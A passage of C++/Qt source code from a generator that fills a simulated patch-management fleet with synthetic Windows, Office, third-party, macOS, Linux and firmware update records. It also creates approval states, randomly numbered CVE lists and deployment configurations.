            d.size = bytes(cu.family == Win11 ? 500 : 300, cu.family == Win11 ? 950 : 700);
            d.releasedMs = pt;
            d.reboot = 1;
            d.uninstallable = true;
            d.families = bit(cu.family);
            d.cves = m_rng.between(12, 80);
            add(d);
        }
        // .NET Framework cumulative updates.
        for (int family : {int(Win11), int(Win10)}) {
            Draft d;
            d.series = QStringLiteral("dotnet-%1").arg(family);
            d.kb = kb();
            d.description =
                QStringLiteral("%1 Cumulative Update for .NET Framework 3.5 and 4.8.1 for %2 for x64 (KB%3)")
                    .arg(tag,
                         family == Win11 ? QStringLiteral("Windows 11, version 24H2")
                                         : QStringLiteral("Windows 10 Version 22H2"),
                         d.kb);
            d.name =
                QStringLiteral("windows%1.0-kb%2-x64-ndp481.msu").arg(family == Win11 ? 11 : 10).arg(d.kb);
            d.vendor = QStringLiteral("Microsoft");
            d.severity = m_rng.chance(0.5) ? 3 : 2;
            d.size = bytes(50, 95);
            d.releasedMs = pt;
            d.reboot = 2;
            d.uninstallable = true;
            d.families = bit(family);
            d.cves = m_rng.between(0, 3);
            add(d);
        }
        {
            Draft d;
            d.series = QStringLiteral("dotnet-srv");
            d.kb = kb();
            d.description =
                QStringLiteral(
                    "%1 Security and Quality Rollup for .NET Framework 4.8 for Windows Server (KB%2)")
                    .arg(tag, d.kb);
            d.name = QStringLiteral("ndp48-kb%1-x64.exe").arg(d.kb);
            d.vendor = QStringLiteral("Microsoft");
            d.type = UpdateType::Rollup;
            d.severity = 3;
            d.size = bytes(60, 120);
            d.releasedMs = pt;
            d.reboot = 2;
            d.uninstallable = true;
            d.families = ModernServers;
            d.cves = m_rng.between(0, 3);
            add(d);
        }
        // Previews (fourth week), definitions (weekly), the removal tool.
        for (int family : {int(Win11), int(Win10)}) {
            Draft d;
            d.series = QStringLiteral("preview-%1").arg(family);
            d.kb = kb();
            d.description = QStringLiteral("%1 Cumulative Update Preview for %2 for x64-based Systems (KB%3)")
                                .arg(tag,
                                     family == Win11 ? QStringLiteral("Windows 11 Version 24H2")
                                                     : QStringLiteral("Windows 10 Version 22H2"),
                                     d.kb);
            d.name = QStringLiteral("windows%1.0-kb%2-x64.msu").arg(family == Win11 ? 11 : 10).arg(d.kb);
            d.vendor = QStringLiteral("Microsoft");
            d.type = UpdateType::PreviewRollup;
            d.severity = 0;
            d.size = bytes(400, 900);
            d.releasedMs = msOf(tuesday.addDays(14));
            d.reboot = 1;
            d.uninstallable = true;
            d.families = bit(family);
            add(d);
        }
        for (int w = 0; w < 4; ++w) {
            Draft d;
            d.series = QStringLiteral("defender");
            const int build = std::max(1, 24000 - m * 120 - (3 - w) * 30);
            d.sqNumber =
                QStringLiteral("1.%1.%2.0").arg(441 - m * 2 - (w < 2 ? 1 : 0)).arg(build % 9000 + 100);
            d.kb = QStringLiteral("2267602");
            d.description =
                QStringLiteral(
                    "Security Intelligence Update for Microsoft Defender Antivirus - KB2267602 (Version %1)")
                    .arg(d.sqNumber);
            d.name = QStringLiteral("mpam-fe_%1.exe").arg(d.sqNumber);
            d.vendor = QStringLiteral("Microsoft");
            d.type = UpdateType::Definition;
            d.severity = 2;
            d.size = bytes(120, 160);
            d.releasedMs = msOf(month.addDays(2 + w * 7), 4);
            d.reboot = 0;
            add(d);
        }
        {
            Draft d;
            d.series = QStringLiteral("msrt");
            d.kb = QStringLiteral("890830");
            d.sqNumber = QStringLiteral("5.%1").arg(std::max(1, 130 - m));
            d.description = QStringLiteral("Windows Malicious Software Removal Tool x64 - v%1 (KB890830)")
                                .arg(d.sqNumber);
            d.name = QStringLiteral("windows-kb890830-x64-v%1.exe").arg(d.sqNumber);
            d.vendor = QStringLiteral("Microsoft");
            d.type = UpdateType::Tool;
            d.severity = 0;
            d.size = bytes(55, 80);
            d.releasedMs = pt;
            add(d);
        }
        // Office.
        {
            Draft d;
            d.series = QStringLiteral("office2016");
            d.kb = kb();
            d.description =
                QStringLiteral("Security Update for Microsoft Office 2016 (KB%1) 64-Bit Edition").arg(d.kb);
            d.name = QStringLiteral("mso2016-kb%1-fullfile-x64-glb.exe").arg(d.kb);
            d.vendor = QStringLiteral("Microsoft");
            d.severity = m_rng.chance(0.5) ? 4 : 3;
            d.size = bytes(20, 90);
            d.releasedMs = pt;
            d.reboot = 2;
            d.uninstallable = true;
            d.title = QStringLiteral("office2016");
            d.cves = m_rng.between(1, 8);
            add(d);
            Draft a;
            a.series = QStringLiteral("m365");
            const int ver = 2509 - (m / 12) * 100 - (m % 12);
            a.sqNumber = QStringLiteral("16.0.%1.%2").arg(19200 - m * 130).arg(20000 + m_rng.bounded(300));
            a.description = QStringLiteral("Microsoft 365 Apps for enterprise Version %1 (Build %2)")
                                .arg(ver)
                                .arg(a.sqNumber.mid(5));
            a.name = QStringLiteral("m365apps-%1-x64.exe").arg(ver);
            a.vendor = QStringLiteral("Microsoft");
            a.severity = 3;
            a.size = bytes(90, 250);
            a.releasedMs = pt;
            a.reboot = 0;
            a.title = QStringLiteral("m365apps");
            a.cves = m_rng.between(0, 6);
            add(a);
        }
        if (m % 3 == 0) {
            Draft d;
            d.series = QStringLiteral("sql2019");
            d.kb = kb();
            d.description = QStringLiteral("Security Update for SQL Server 2019 RTM CU%1 (KB%2)")
                                .arg(std::max(1, 32 - m / 2))
                                .arg(d.kb);
            d.name = QStringLiteral("SQLServer2019-KB%1-x64.exe").arg(d.kb);
            d.vendor = QStringLiteral("Microsoft");
            d.type = m % 6 == 0 ? UpdateType::ServicePack : UpdateType::Security;
            d.severity = 3;
            d.size = bytes(400, 700);
            d.releasedMs = pt;
            d.reboot = 2;
            d.uninstallable = true;
            d.title = QStringLiteral("sqlserver");
            d.cves = m_rng.between(1, 4);
            add(d);
        }
        if (m % 12 == 1) {
            Draft d;
            d.series = QStringLiteral("feature-win11");
            d.description = QStringLiteral("Feature update to Windows 11, version %1H2").arg(25 - m / 12);
            d.name = QStringLiteral("windows11.0-%1h2-enablement-x64.msu").arg(25 - m / 12);
            d.kb = kb();
            d.vendor = QStringLiteral("Microsoft");
            d.type = UpdateType::FeaturePack;
            d.severity = 0;
            d.size = bytes(3000, 4200);
            d.releasedMs = pt + 14 * DayMs;
            d.reboot = 1;
            d.families = bit(Win11);
            add(d);
        }
        if (m % 4 == 2) {
            Draft d;
            d.series = QStringLiteral("ssu-win10");
            d.kb = kb();
            d.description =
                QStringLiteral(
                    "Servicing Stack Update for Windows 10 Version 22H2 for x64-based Systems (KB%1)")
                    .arg(d.kb);
            d.name = QStringLiteral("windows10.0-kb%1-x64.msu").arg(d.kb);
            d.vendor = QStringLiteral("Microsoft");
            d.type = UpdateType::NonSecurity;
            d.severity = 0;
            d.size = bytes(10, 30);
            d.releasedMs = pt;
            d.families = bit(Win10);
            add(d);
        }
        if (m % 2 == 0) {
            Draft d;
            d.series = QStringLiteral("optional-win11");
            d.kb = kb();
            d.description = QStringLiteral("Update for Windows Security platform - KB%1 (Version 1.0.%2.0)")
                                .arg(d.kb)
                                .arg(2510 - m);
            d.name = QStringLiteral("securityhealthsetup-kb%1-x64.exe").arg(d.kb);
            d.vendor = QStringLiteral("Microsoft");
            d.type = UpdateType::Optional;
            d.severity = 0;
            d.size = bytes(2, 8);
            d.releasedMs = day(3, 20);
            d.families = Workstations;
            add(d);
        }
        if (m % 3 == 1) {
            Draft d;
            d.series = QStringLiteral("vcredist");
            d.sqNumber = QStringLiteral("14.%1.%2.0").arg(44 - m / 3).arg(35200 - m * 40);
            d.description =
                QStringLiteral("Microsoft Visual C++ 2015-2022 Redistributable (x64) - %1").arg(d.sqNumber);
            d.name = QStringLiteral("VC_redist.x64.exe");
            d.vendor = QStringLiteral("Microsoft");
            d.severity = 2;
            d.size = bytes(24, 26);
            d.releasedMs = day(5, 25);
            d.reboot = 2;
            d.title = QStringLiteral("vcredist");
            add(d);
        }
        // Drivers.
        {
            Draft d;
            d.series = QStringLiteral("intel-gfx");
            d.sqNumber = QStringLiteral("32.0.101.%1").arg(std::max(1000, 7100 - m * 37));
            d.description = QStringLiteral("Intel - Display - %1").arg(d.sqNumber);
            d.name = QStringLiteral("gfx_win_101.%1.exe").arg(d.sqNumber.section(QLatin1Char('.'), 3));
            d.vendor = QStringLiteral("Intel");
            d.type = UpdateType::Driver;
            d.severity = 0;
            d.size = bytes(600, 900);
            d.releasedMs = day(1, 27);
            d.reboot = 1;
            d.title = QStringLiteral("intel-graphics");
            add(d);
            if (m % 2 == 0) {
                Draft a;
                a.series = QStringLiteral("realtek-audio");
                a.sqNumber = QStringLiteral("6.0.9%1.1").arg(std::max(100, 800 - m * 9));
                a.description = QStringLiteral("Realtek - Audio - %1").arg(a.sqNumber);
                a.name = QStringLiteral("realtek-hda-%1.exe").arg(a.sqNumber);
                a.vendor = QStringLiteral("Realtek");
                a.type = UpdateType::Driver;
                a.severity = 0;
                a.size = bytes(30, 80);
                a.releasedMs = day(1, 27);
                a.reboot = 1;
                a.title = QStringLiteral("realtek-audio");
                add(a);
            }
        }

        // Third-party applications (bulletins TU-nnn per product, as PMP numbers them).
        struct App
        {
            const char *series, *title, *vendor, *product, *file;
            int tu;
            int every; // a release every N months (1 = monthly)
            int perMonth;
            int sevLo, sevHi;
            int sizeLo, sizeHi;
            int platform;
            bool uninstall;
        };
        const App apps[] = {
            {"chrome", "chrome", "Google", "Google Chrome (x64)", "googlechromestandaloneenterprise64_%1.msi",
             7, 1, 2, 3, 4, 100, 130, 1, true},
            {"firefox", "firefox", "Mozilla", "Mozilla Firefox (x64 en-US)", "Firefox Setup %1.exe", 12, 1, 1,
             3, 4, 55, 70, 1, true},
            {"firefox-esr", "firefox-esr", "Mozilla", "Mozilla Firefox ESR (x64 en-US)",
             "Firefox Setup %1esr.exe", 13, 1, 1, 3, 4, 55, 70, 1, true},
            {"edge", "edge", "Microsoft", "Microsoft Edge (x64)", "MicrosoftEdgeEnterpriseX64_%1.msi", 21, 1,
             2, 3, 4, 150, 180, 1, false},
            {"teams", "teams", "Microsoft", "Microsoft Teams (x64)", "MSTeams-x64_%1.msix", 22, 1, 1, 1, 2,
             130, 160, 1, true},
            {"acrobat", "acrobat", "Adobe", "Adobe Acrobat Reader DC", "AcroRdrDCx64%1_MUI.exe", 31, 1, 1, 3,
             4, 600, 700, 1, true},
            {"java8", "java8", "Oracle", "Java SE Runtime Environment 8", "jre-8u%1-windows-x64.exe", 40, 3,
             1, 3, 4, 40, 45, 1, true},
            {"7zip", "7zip", "Igor Pavlov", "7-Zip (x64)", "7z%1-x64.exe", 58, 3, 1, 2, 3, 1, 2, 1, true},
            {"notepadpp", "notepadpp", "Notepad++ Team", "Notepad++ (x64)", "npp.%1.Installer.x64.exe", 63, 1,
             1, 1, 3, 4, 6, 1, true},
            {"zoom", "zoom", "Zoom Video Communications", "Zoom Workplace (x64)", "ZoomInstallerFull_%1.msi",
             75, 1, 1, 2, 3, 80, 100, 1, true},
            {"vlc", "vlc", "VideoLAN", "VLC media player (x64)", "vlc-%1-win64.exe", 81, 2, 1, 2, 3, 40, 45,
             1, true},
            {"putty", "putty", "Simon Tatham", "PuTTY (x64)", "putty-64bit-%1-installer.msi", 88, 4, 1, 2, 3,
             3, 4, 1, true},
            {"winscp", "winscp", "Martin Prikryl", "WinSCP", "WinSCP-%1-Setup.exe", 91, 2, 1, 1, 2, 11, 12, 1,
             true},
            {"filezilla", "filezilla", "Tim Kosse", "FileZilla Client", "FileZilla_%1_win64-setup.exe", 95, 2,
             1, 1, 2, 12, 14, 1, true},
            {"git", "git", "The Git Development Community", "Git for Windows (x64)", "Git-%1-64-bit.exe", 102,
             1, 1, 1, 3, 60, 70, 1, true},
            {"python", "python", "Python Software Foundation", "Python 3.13 (x64)", "python-%1-amd64.exe",
             110, 2, 1, 2, 3, 27, 30, 1, true},
            {"nodejs", "nodejs", "OpenJS Foundation", "Node.js LTS (x64)", "node-v%1-x64.msi", 118, 1, 1, 2,
             3, 28, 32, 1, true},
            {"keepass", "keepass", "Dominik Reichl", "KeePass Password Safe", "KeePass-%1-Setup.exe", 124, 3,
             1, 1, 2, 3, 4, 1, true},
            {"wireshark", "wireshark", "Wireshark Foundation", "Wireshark (x64)", "Wireshark-%1-x64.exe", 131,
             2, 1, 2, 3, 80, 90, 1, true},
            {"teamviewer", "teamviewer", "TeamViewer", "TeamViewer", "TeamViewer_Setup_x64_%1.exe", 140, 1, 1,
             2, 3, 70, 80, 1, true},
            {"slack", "slack", "Slack Technologies", "Slack (x64)", "SlackSetup_%1.msi", 147, 1, 1, 1, 2, 90,
             110, 1, true},
            {"citrix", "citrix", "Citrix", "Citrix Workspace app", "CitrixWorkspaceApp_%1.exe", 152, 3, 1, 2,
             3, 200, 230, 1, true},
            {"bandizip", "bandizip", "Bandisoft", "Bandizip", "BANDIZIP-SETUP-%1.EXE", 75, 2, 1, 1, 1, 6, 7,
             1, true},
            {"chrome-mac", "chrome-mac", "Google", "Google Chrome for Mac", "googlechrome_%1.pkg", 207, 1, 1,
             3, 4, 200, 240, 2, false},
            {"firefox-mac", "firefox-mac", "Mozilla", "Mozilla Firefox for Mac", "Firefox %1.pkg", 212, 1, 1,
             3, 4, 130, 150, 2, false},
            {"zoom-mac", "zoom-mac", "Zoom Video Communications", "Zoom Workplace for Mac",
             "zoomusInstallerFull_%1.pkg", 275, 1, 1, 2, 3, 90, 110, 2, false},
            {"office-mac", "office-mac", "Microsoft", "Microsoft Office for Mac",
             "Microsoft_Office_%1_Updater.pkg", 280, 1, 1, 3, 3, 1500, 2000, 2, false},
            {"slack-mac", "slack-mac", "Slack Technologies", "Slack for Mac", "Slack-%1-macOS.dmg", 247, 2, 1,
             1, 2, 150, 180, 2, false},
            {"chrome-linux", "chrome-linux", "Google", "Google Chrome for Linux",
             "google-chrome-stable_%1_amd64.deb", 307, 1, 1, 3, 4, 100, 115, 3, false},
        };
        for (const App &a : apps) {
            if (a.every > 1 && m % a.every != 0)
                continue;
            for (int k = 0; k < a.perMonth; ++k) {
                const int step = m * a.perMonth + k; // 0 = newest release of the product
                const QString series = QString::fromLatin1(a.series);
                QString ver;
                if (series.startsWith(QLatin1String("chrome")))
                    ver = QStringLiteral("%1.0.%2.%3")
                              .arg(142 - step / 2)
                              .arg(7444 - step * 45)
                              .arg(60 + (step % 2) * 75);
                else if (series == QLatin1String("edge"))
                    ver = QStringLiteral("%1.0.%2.%3")
                              .arg(142 - step / 2)
                              .arg(3595 - step * 40)
                              .arg(53 + (step % 2) * 30);
                else if (series.startsWith(QLatin1String("firefox-esr")))
                    ver = QStringLiteral("140.%1.0").arg(std::max(0, 4 - step));
                else if (series.startsWith(QLatin1String("firefox")))
                    ver = QStringLiteral("%1.0.%2").arg(144 - step).arg(step % 3);
                else if (series == QLatin1String("teams"))
                    ver = QStringLiteral("25%1.%2.%3").arg(290 - step * 14).arg(2205).arg(3800 - step * 11);
                else if (series == QLatin1String("acrobat"))
                    ver = QStringLiteral("25.001.%1").arg(20800 - step * 60);
                else if (series == QLatin1String("java8"))
                    ver = QString::number(std::max(1, 471 - step * 10));
                else if (series == QLatin1String("7zip"))
                    ver = QStringLiteral("25.%1").arg(std::max(0, 10 - step), 2, 10, QLatin1Char('0'));
                else if (series == QLatin1String("notepadpp"))
                    ver = QStringLiteral("8.8.%1").arg(std::max(0, 6 - step));
                else if (series.startsWith(QLatin1String("zoom")))
                    ver = QStringLiteral("6.6.%1.%2").arg(std::max(0, 8 - step)).arg(27000 - step * 400);
                else if (series == QLatin1String("vlc"))
                    ver = QStringLiteral("3.0.%1").arg(std::max(0, 21 - step));
                else if (series == QLatin1String("putty"))
                    ver = QStringLiteral("0.%1").arg(std::max(70, 83 - step));
                else if (series == QLatin1String("winscp"))
                    ver = QStringLiteral("6.5.%1").arg(std::max(0, 4 - step));
                else if (series == QLatin1String("filezilla"))
                    ver = QStringLiteral("3.69.%1").arg(std::max(0, 3 - step));
                else if (series == QLatin1String("git"))
                    ver = QStringLiteral("2.%1.0").arg(std::max(30, 51 - step));
                else if (series == QLatin1String("python"))
                    ver = QStringLiteral("3.13.%1").arg(std::max(0, 9 - step));
                else if (series == QLatin1String("nodejs"))
                    ver = QStringLiteral("22.%1.0").arg(std::max(0, 21 - step));
                else if (series == QLatin1String("keepass"))
                    ver = QStringLiteral("2.%1").arg(std::max(50, 59 - step));
                else if (series == QLatin1String("wireshark"))
                    ver = QStringLiteral("4.4.%1").arg(std::max(0, 10 - step));
                else if (series == QLatin1String("teamviewer"))
                    ver = QStringLiteral("15.%1.3").arg(std::max(40, 71 - step));
                else if (series.startsWith(QLatin1String("slack")))
                    ver = QStringLiteral("4.%1.%2").arg(std::max(30, 46 - step / 2)).arg(100 - step);
                else if (series == QLatin1String("citrix"))
                    ver = QStringLiteral("25.%1.0.%2").arg(std::max(1, 9 - step)).arg(200 - step);
                else if (series == QLatin1String("bandizip"))
                    ver = QStringLiteral("7.%1").arg(std::max(10, 41 - step));
                else if (series == QLatin1String("office-mac"))
                    ver = QStringLiteral("16.%1").arg(std::max(60, 102 - step));
                else
                    ver = QStringLiteral("1.%1").arg(100 - step);
                Draft d;
                d.series = series;
                d.sqNumber = ver;
                d.vendor = QString::fromLatin1(a.vendor);
                d.description = QStringLiteral("%1 (%2)").arg(QString::fromLatin1(a.product), ver);
                d.name = QString::fromLatin1(a.file).arg(
                    series == QLatin1String("acrobat") ? QString(ver).remove(QLatin1Char('.')) : ver);
                d.bulletin = QStringLiteral("TU-%1").arg(a.tu, 3, 10, QLatin1Char('0'));
                d.platform = a.platform;
                d.type = UpdateType::ThirdParty;
                d.severity = m_rng.between(a.sevLo, a.sevHi);
                d.size = bytes(a.sizeLo, a.sizeHi);
                d.releasedMs = day(k * 14, k * 14 + 12);
                d.reboot = m_rng.chance(0.15) ? 2 : 0;
                d.uninstallable = a.uninstall;
                d.title = QString::fromLatin1(a.title);
                d.cves = d.severity >= 3 ? m_rng.between(1, 12) : m_rng.between(0, 2);
                add(d);
            }
        }

        // Apple.
        if (m % 2 == 0) {
            struct MacOs
            {
                int family;
                const char *name;
                int major;
            };
            for (const MacOs &os :
                 {MacOs{Mac15, "Sequoia", 15}, MacOs{Mac14, "Sonoma", 14}, MacOs{Mac13, "Ventura", 13}}) {
                if (os.family == Mac13 && m % 4 != 0)
                    continue;
                Draft d;
                d.series = QStringLiteral("macos-%1").arg(os.major);
                const int minor = std::max(0, 7 - m / 2);
                d.sqNumber = QStringLiteral("%1.%2").arg(os.major).arg(minor);
                d.description =
                    os.family == Mac15
                        ? QStringLiteral("macOS %1 %2 Update").arg(QString::fromLatin1(os.name), d.sqNumber)
                        : QStringLiteral("macOS %1 %2.%3 Security Update")
                              .arg(QString::fromLatin1(os.name), d.sqNumber)
                              .arg(8);
                d.name = QStringLiteral("macOS%1%2Update.pkg").arg(QString::fromLatin1(os.name), d.sqNumber);
                d.vendor = QStringLiteral("Apple");
                d.bulletin = QStringLiteral("APPLE-SA-%1")
                                 .arg(month.addDays(20).toString(QStringLiteral("yyyy-MM-dd")));
                d.platform = 2;
                d.severity = m_rng.chance(0.7) ? 4 : 3;
                d.size = bytes(900, 3500);
                d.releasedMs = msOf(month.addDays(20));
                d.reboot = 1;
                d.families = bit(os.family);
                d.cves = m_rng.between(10, 60);
                add(d);
            }
        }
        if (m % 2 == 1) {
            Draft d;
            d.series = QStringLiteral("safari");
            d.sqNumber = QStringLiteral("26.%1").arg(std::max(0, 2 - m / 2));
            d.description = QStringLiteral("Safari %1").arg(d.sqNumber);
            d.name = QStringLiteral("Safari%1.pkg").arg(d.sqNumber);
            d.vendor = QStringLiteral("Apple");
            d.bulletin =
                QStringLiteral("APPLE-SA-%1").arg(month.addDays(12).toString(QStringLiteral("yyyy-MM-dd")));
            d.platform = 2;
            d.severity = 3;
            d.size = bytes(90, 130);
            d.releasedMs = msOf(month.addDays(12));
            d.reboot = 0;
            d.families = bit(Mac14) | bit(Mac13);
            d.cves = m_rng.between(2, 20);
            add(d);
        }

        // Linux distributions: advisories named by the distributor.
        struct Advisory
        {
            const char *series, *vendor, *pkg, *what;
            int familyMaskBits;
            int kind; // 0 USN, 1 RHSA, 2 DSA
            int sev;
            bool reboot;
        };
        const Advisory advisories[] = {
            {"usn-kernel", "Canonical", "linux", "Linux kernel vulnerabilities",
             int(bit(Ubuntu24) | bit(Ubuntu22)), 0, 4, true},
            {"usn-openssl", "Canonical", "openssl", "OpenSSL vulnerabilities",
             int(bit(Ubuntu24) | bit(Ubuntu22)), 0, 3, false},
            {"usn-misc", "Canonical", "curl", "curl vulnerabilities", int(bit(Ubuntu24) | bit(Ubuntu22)), 0,
             2, false},
            {"rhsa-kernel", "Red Hat", "kernel", "kernel security update", int(bit(Rhel9) | bit(Rhel8)), 1, 3,
             true},
            {"rhsa-openssh", "Red Hat", "openssh", "openssh security update", int(bit(Rhel9) | bit(Rhel8)), 1,
             3, false},
            {"rhsa-glibc", "Red Hat", "glibc", "glibc security update", int(bit(Rhel9) | bit(Rhel8)), 1, 2,
             false},
            {"dsa-kernel", "Debian", "linux", "linux security update", int(bit(Debian12)), 2, 4, true},
            {"dsa-misc", "Debian", "openssl", "openssl security update", int(bit(Debian12)), 2, 3, false},
        };
        for (const Advisory &a : advisories) {
            Draft d;
            d.series = QString::fromLatin1(a.series);
            const int serial = 7800 - m * 60 - int(&a - advisories) * 5;
            const int year = month.year();
            if (a.kind == 0)
                d.bulletin = QStringLiteral("USN-%1-1").arg(std::max(1000, serial));
            else if (a.kind == 1)
                d.bulletin = QStringLiteral("RHSA-%1:%2")
                                 .arg(year)
                                 .arg(std::max(100, 18000 - m * 900 - int(&a - advisories) * 37));
            else
                d.bulletin =
                    QStringLiteral("DSA-%1-1").arg(std::max(1000, 6050 - m * 12 - int(&a - advisories)));
            d.description = QStringLiteral("%1: %2").arg(d.bulletin, QString::fromLatin1(a.what));
            d.name = QStringLiteral("%1-%2.%3")
                         .arg(QString::fromLatin1(a.pkg))
                         .arg(serial)
                         .arg(a.kind == 1 ? QStringLiteral("rpm") : QStringLiteral("deb"));
            d.vendor = QString::fromLatin1(a.vendor);
            d.platform = 3;
            d.severity = a.sev;
            d.size = bytes(a.reboot ? 60 : 1, a.reboot ? 140 : 8);
            d.releasedMs = day(1, 27);
            d.reboot = a.reboot ? 1 : 0;
            d.families = quint32(a.familyMaskBits);
            d.cves = m_rng.between(1, a.reboot ? 40 : 6);
            add(d);
        }
        {
            Draft d;
            d.series = QStringLiteral("nginx");
            d.sqNumber = QStringLiteral("1.%1.%2").arg(std::max(20, 28 - m / 6)).arg(m % 4);
            d.description = QStringLiteral("nginx (%1)").arg(d.sqNumber);
            d.name = QStringLiteral("nginx_%1-1_amd64.deb").arg(d.sqNumber);
            d.vendor = QStringLiteral("F5 NGINX");
            d.bulletin = QStringLiteral("TU-318");
            d.platform = 3;
            d.type = UpdateType::ThirdParty;
            d.severity = 2;
            d.size = bytes(1, 2);
            d.releasedMs = day(1, 27);
            d.title = QStringLiteral("nginx");
            if (m % 2 == 0)
                add(d);
        }

        // Firmware (BIOS).
        struct Firmware
        {
            const char *series, *title, *vendor, *text;
            int every, bi;
        };
        const Firmware firmware[] = {
            {"bios-hp", "bios-hp-840g10", "HP", "HP Firmware update - 8D8A System (01.%1.%2)", 3, 1},
            {"bios-dell", "bios-dell-5440", "Dell", "Dell BIOS Update - Latitude 5440 (1.%1.%2)", 3, 2},
            {"bios-lenovo", "bios-lenovo-t14g4", "Lenovo", "Lenovo BIOS Update - ThinkPad T14 Gen 4 (1.%1%2)",
             4, 3},
            {"rom-hpe", "rom-hpe-dl380", "HPE", "HPE ProLiant DL380 Gen10 System ROM (U30 v2.%1%2)", 6, 4},
        };
        for (const Firmware &fw : firmware) {
            if (m % fw.every != 1)
                continue;
            Draft d;
            d.series = QString::fromLatin1(fw.series);
            const int v = std::max(1, 40 - m / fw.every);
            d.description = QString::fromLatin1(fw.text).arg(v, 2, 10, QLatin1Char('0')).arg(m % 10);
            d.sqNumber = d.description.section(QLatin1Char('('), -1).chopped(1);
            d.name = QStringLiteral("sp%1.exe").arg(162900 - m * 37 - fw.bi * 3);
            d.vendor = QString::fromLatin1(fw.vendor);
            d.bulletin = QStringLiteral("BI-%1").arg(fw.bi, 3, 10, QLatin1Char('0'));
            d.type = UpdateType::Bios;
            d.severity = m_rng.chance(0.3) ? 3 : 0;
            d.size = bytes(20, 40);
            d.releasedMs = day(1, 27);
            d.reboot = 3;
            d.title = QString::fromLatin1(fw.title);
            d.cves = d.severity ? m_rng.between(1, 4) : 0;
            add(d);
        }
    }

    // Keep the newest `count`, then number them oldest first (patch ids grow over time).
    std::stable_sort(drafts.begin(), drafts.end(),
                     [](const Draft &a, const Draft &b) { return a.releasedMs > b.releasedMs; });
    if (drafts.size() > count)
        drafts.resize(count);
    std::reverse(drafts.begin(), drafts.end());

    FleetState &f = m_fleet;
    qint64 id = 300001;
    qint64 location = 3632425;
    QHash<QString, int> lastOfSeries;
    f.m_patches.reserve(drafts.size());
    for (const Draft &d : drafts) {
        Patch p;
        p.id = id;
        id += 1 + m_rng.bounded(23);
        p.name = d.name;
        p.description = d.description;
        p.vendor = d.vendor;
        p.bulletinId = d.bulletin;
        p.kbNumber = d.kb;
        p.sqNumber = d.sqNumber.isEmpty() ? d.kb : d.sqNumber;
        p.platform = d.platform;
        p.updateType = d.type;
        p.severity = d.severity;
        p.size = d.size;
        p.releasedMs = std::min(d.releasedMs, R - 6 * HourMs);
        p.supportedMs = std::min(p.releasedMs + qint64(m_rng.between(2, 40)) * HourMs, R - HourMs);
        p.updatedMs = p.supportedMs + qint64(m_rng.bounded(6 * 3600)) * 1000;
        p.reboot = d.reboot;
        p.uninstallable = d.uninstallable;
        p.title = d.title.isEmpty() ? -1 : title(d.title);
        p.familyMask = d.families;
        p.updateId = int(d.type);
        p.patchType = d.type == UpdateType::Bios ? 12 : (d.type == UpdateType::ThirdParty ? 2 : 0);
        p.language = d.vendor == QLatin1String("Microsoft") && d.type != UpdateType::ThirdParty ? 1 : 0;
        for (int i = 0; i < d.cves; ++i) {
            const int year = QDateTime::fromMSecsSinceEpoch(p.releasedMs, QTimeZone::utc()).date().year();
            p.cves << QStringLiteral("CVE-%1-%2").arg(year).arg(m_rng.between(20000, 59999));
        }
        const double ageDays = double(R - p.releasedMs) / double(DayMs);
        p.downloaded = ageDays > 2 ? m_rng.chance(0.85) : m_rng.chance(0.3);
        if (p.downloaded) {
            p.downloadedMs = p.supportedMs + qint64(m_rng.between(1, 30)) * HourMs;
            p.locationId = location++;
        }
        // Manual approval: most older patches approved, fresh ones waiting, a few declined.
        const double roll = m_rng.real();
        if (roll < 0.02 && p.platform != 3) {
            p.approval = 212;
            PatchDecline decline;
            decline.groupIds = {301};
            decline.reasonId = 1 + m_rng.bounded(5);
            decline.remarks = QStringLiteral("Declined during %1 review")
                                  .arg(QDateTime::fromMSecsSinceEpoch(p.supportedMs, QTimeZone::utc())
                                           .toString(QStringLiteral("MMMM yyyy")));
            decline.declinedMs = p.supportedMs + DayMs;
            p.declines << decline;
            p.approvedBy = QStringLiteral("admin");
            p.approvalMs = decline.declinedMs;
        } else if (ageDays > 7 ? roll < 0.88 : roll < 0.25) {
            p.approval = 211;
            p.approvedBy = m_rng.chance(0.7) ? QStringLiteral("DC-SYSTEM-USER") : QStringLiteral("admin");
            p.approvalMs = p.supportedMs + qint64(m_rng.between(1, 72)) * HourMs;
        } else {
            p.approval = 0;
            p.approvedBy = QStringLiteral("--");
        }
        if (p.approvalMs > p.updatedMs)
            p.updatedMs = std::min(p.approvalMs, R - 60 * 1000);
        const int index = int(f.m_patches.size());
        const auto previous = lastOfSeries.constFind(d.series);
        if (previous != lastOfSeries.constEnd())
            f.m_patches[*previous].supersededBy = p.id;
        lastOfSeries.insert(d.series, index);
        f.m_patches.append(p);
    }
}

void FleetGenerator::makeConfigurations()
{
    FleetState &f = m_fleet;
    if (f.m_computers.isEmpty())
        return;
    using S = DeploymentConfig::Status;
    const QList<S> statuses{S::Deployed,  S::Executed,        S::InProgress, S::Draft, S::DraftDownloadFailed,
                            S::Suspended, S::RetryInProgress, S::Expired};
    const QList<int> weights{40, 25, 6, 8, 4, 5, 5, 7};
    const int count = 28;
    for (int i = 0; i < count; ++i) {
        DeploymentConfig c;
        c.configId = 151 + qint64(i) * 7;
        c.collectionId = 23708 + qint64(i) * 13;
        c.configDataId = 38717 + qint64(i) * 11;
        c.status = statuses.at(m_rng.weighted(weights));
        c.createdMs = R - qint64(count - i) * 3 * DayMs - qint64(m_rng.bounded(86400)) * 1000;
        c.modifiedMs = c.createdMs + qint64(m_rng.bounded(48 * 3600)) * 1000;
        c.templateId = f.m_policies.at(m_rng.bounded(int(f.m_policies.size()))).templateId;
        c.action = c.status == S::Draft || c.status == S::DraftDownloadFailed ? QStringLiteral("Draft")
                                                                              : QStringLiteral("Deploy");
        const int targetCount = std::min<int>(int(f.m_computers.size()), m_rng.between(1, 40));
        const int first = m_rng.bounded(int(f.m_computers.size()));
        for (int t = 0; t < targetCount; ++t)
            c.targets << (first + t * 7) % int(f.m_computers.size());
        c.platform = f.m_osProfiles.at(f.m_computers.at(c.targets.first()).os).platform;
        const QDateTime when = QDateTime::fromMSecsSinceEpoch(c.createdMs, QTimeZone::utc());
        const QString firstName = f.m_computers.at(c.targets.first()).name;
        switch (i % 6) {
        case 0:
            c.name = QStringLiteral("Patch Tuesday %1 - Workstations")
                         .arg(when.toString(QStringLiteral("yyyy-MM")));
            break;
        case 1:
            c.name =
                QStringLiteral("Patch Tuesday %1 - Servers").arg(when.toString(QStringLiteral("yyyy-MM")));
            break;
        case 2:
            c.name =
                QStringLiteral("Google Chrome rollout - %1").arg(when.toString(QStringLiteral("dd MMM")));
            break;
        case 3:
